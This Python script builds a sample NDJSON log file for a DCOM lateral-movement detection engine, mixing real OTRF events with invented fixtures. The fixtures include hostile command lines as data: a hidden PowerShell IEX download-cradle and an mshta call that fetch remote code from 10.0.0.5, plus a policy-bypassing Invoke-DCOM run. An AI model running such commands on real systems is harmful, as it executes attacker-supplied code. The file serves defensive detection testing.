#!/usr/bin/env python3
"""Builds examples/data/sample.ndjson, the bundled sample the README's first command scans.

It mixes real, MIT-licensed OTRF Security-Datasets events (copied byte for byte from
../shared/realdata, see examples/data/README.md) with fixtures of our own in every schema the
engine reads, so that the sample shows matches from each branch, near misses, DCOM activity the
rule misses, and a malformed record being reported.
"""
import json
import pathlib

HERE = pathlib.Path(__file__).resolve().parent
REAL = HERE.parents[1] / ".." / "shared" / "realdata"

# (file under realdata, 1-based line): OTRF, MIT licence.
OTRF = [
    ("background/otrf_background_process_creation.ndjson", 3),       # svchost -k DcomLaunch -> WmiPrvSE (near miss: DCOM without -Exec)
    ("background/otrf_background_process_creation.ndjson", 2),       # Security 4688, lower-case channel
    ("background/otrf_background_process_creation.ndjson", 2274),    # powershell -ExecutionPolicy (near miss: -Exec without DCOM)
    ("otrf_dcom/covenant_dcom_executeexcel4macro_allowed.ndjson", 1321),  # svchost -> EXCEL.EXE /automation -Embedding (missed by the rule)
    ("otrf_dcom/covenant_dcom_executeexcel4macro_allowed.ndjson", 1285),  # the same, Security 4688
    ("otrf_dcom/covenant_dcom_iertutil_dll_hijack.filtered.ndjson", 2122),  # iexplore.exe -> notepad.exe (missed)
    ("otrf_dcom/empire_dcom_shellwindows_stager.filtered.ndjson", 1635),    # ShellWindows via explorer.exe (missed)
]

START = {"category": ["process"], "type": ["start"]}
OWN = [
    # Elastic Defend-style ECS: MMC20.Application executing PowerShell (office_child)
    {"@timestamp": "2024-05-01T10:00:01.000Z", "event": {**START, "kind": "event", "module": "endpoint"},
     "host": {"name": "ws-finance-07", "os": {"type": "windows"}}, "user": {"name": "svc_admin", "domain": "CORP"},
     "process": {"pid": 4412, "name": "powershell.exe", "executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                 "command_line": "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a')",
                 "parent": {"pid": 3120, "name": "mmc.exe", "executable": "C:\\Windows\\System32\\mmc.exe", "command_line": "C:\\Windows\\system32\\mmc.exe -Embedding"}}},
    # dotted ECS keys: the DCOM configuration tool (dcomcnfg)
    {"@timestamp": "2024-05-01T10:00:02.000Z", "event.category": "process", "event.type": "start", "host.name": "ws-it-02",
     "user.name": "alice", "process.name": "dcomcnfg.exe", "process.executable": "C:\\Windows\\System32\\dcomcnfg.exe",
     "process.parent.name": "explorer.exe"},
    # ECS: a command line naming DCOM with -ExecutionPolicy (dcom_command_line)
    {"@timestamp": "2024-05-01T10:00:03.000Z", "event": START, "host": {"name": "jump-01"},
     "process": {"name": "powershell.exe", "command_line": "powershell.exe -ExecutionPolicy Bypass -File C:\\Tools\\Invoke-DCOM.ps1 -ComputerName ws-finance-07 -Method MMC20.Application"}},
    # Winlogbeat 7+ raw Sysmon 1: EXCEL.EXE (DCOM Excel.Application) starting cmd.exe (office_child)
    {"@timestamp": "2024-05-01T10:00:04.000Z", "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 1, "computer_name": "ws-finance-07.corp.local",
     "event_data": {"UtcTime": "2024-05-01 10:00:04.120", "Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd.exe /c whoami /all",
                    "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", "ParentCommandLine": "\"EXCEL.EXE\" /automation -Embedding",
                    "User": "CORP\\svc_admin", "ProcessId": "5120", "ParentProcessId": "4980"}}},
    # Winlogbeat 6 raw Security 4688: outlook.exe starting mshta.exe (office_child)
    {"@timestamp": "2024-05-01T10:00:05.000Z", "log_name": "Security", "event_id": 4688, "computer_name": "ws-sales-11.corp.local",
     "event_data": {"NewProcessName": "C:\\Windows\\System32\\mshta.exe", "NewProcessId": "0x1a2c", "CommandLine": "mshta.exe http://10.0.0.5/p.hta",
                    "ParentProcessName": "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE", "ProcessId": "0x11f0",
                    "SubjectUserName": "bob", "SubjectDomainName": "CORP"}},
    # evtx_dump JSON, Sysmon 1: calc.exe from mmc.exe (Atomic Red Team T1021.003 #1: missed, calc is not listed)
    {"Event": {"System": {"Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "EventRecordID": 7001, "Computer": "ws-it-02",
               "TimeCreated": {"#attributes": {"SystemTime": "2024-05-01T10:00:06.000000Z"}}},
               "EventData": {"Image": "C:\\Windows\\System32\\calc.exe", "ParentImage": "C:\\Windows\\System32\\mmc.exe", "CommandLine": "\"C:\\Windows\\System32\\calc.exe\""}}},
    # ECS with an upper-case name: == is case-sensitive, so no dcomcnfg alert
    {"@timestamp": "2024-05-01T10:00:07.000Z", "event": START, "process": {"name": "DCOMCNFG.EXE", "parent": {"name": "explorer.exe"}}},
]
MALFORMED = '{"@timestamp":"2024-05-01T10:00:08.000Z","event":{"category":"process","type":"start"},"process":{"name":"cmd.exe","name":"dcomcnfg.exe"}}'


def main():
    lines = []
    for rel, n in OTRF:
        with open(REAL / rel, "rb") as f:
            for i, line in enumerate(f, start=1):
                if i == n:
                    lines.append(line.rstrip(b"\r\n"))
                    break
    lines.extend(json.dumps(e, ensure_ascii=False).encode() for e in OWN)
    lines.append(MALFORMED.encode())
    (HERE / "sample.ndjson").write_bytes(b"\n".join(lines) + b"\n")
    print(f"{len(lines)} records")


if __name__ == "__main__":
    main()
